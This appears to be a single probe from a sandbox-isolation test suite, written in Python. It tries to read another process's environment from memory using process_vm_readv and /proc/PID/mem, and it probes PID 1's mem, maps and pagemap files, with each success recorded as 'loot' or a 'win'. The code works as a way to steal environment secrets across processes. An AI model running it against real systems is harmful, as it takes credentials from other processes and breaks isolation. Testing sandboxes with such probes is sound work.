"""Reads the memory of another process, where its environment lies, by process_vm_readv and /proc/PID/mem.

group: system calls
effect: reads
control: root
"""
PROCESS_VM_READV = 310
ENV_START, ENV_END = 50, 51  # fields of /proc/PID/stat, counted from 1; the third comes after the name

def vector(address, length):
    return (ctypes.c_size_t * 2)(address, length)

def steal(pid):
    fields = read(f"/proc/{pid}/stat").rpartition(b") ")[2].split()
    start, end = int(fields[ENV_START - 3]), int(fields[ENV_END - 3])
    buffer = ctypes.create_string_buffer(end - start)
    with attempt(f"process_vm_readv {pid}"):
        here, there = vector(ctypes.addressof(buffer), end - start), vector(start, end - start)
        syscall(PROCESS_VM_READV, pid, here, 1, there, 1, 0)
        loot(buffer.raw)
    with attempt(f"mem of {pid}"):
        memory = check(libc.open(f"/proc/{pid}/mem".encode(), os.O_RDONLY))
        check(libc.pread(memory, buffer, end - start, ctypes.c_long(start)))
        loot(buffer.raw)

with attempt("a process of the host"):
    steal(arena.victim)
if os.getppid() == 1:  # PID 1 of the sandbox: its environment is empty, and its memory begins with its program
    with attempt("process_vm_readv of PID 1"):
        buffer = ctypes.create_string_buffer(4)
        syscall(PROCESS_VM_READV, 1, vector(ctypes.addressof(buffer), 4), 1, vector(0x400000, 4), 1, 0)
        won()
    for name in ("mem", "maps", "pagemap"):
        with attempt(f"{name} of PID 1"):
            check(libc.open(f"/proc/1/{name}".encode(), os.O_RDWR if name == "mem" else os.O_RDONLY))
            won()
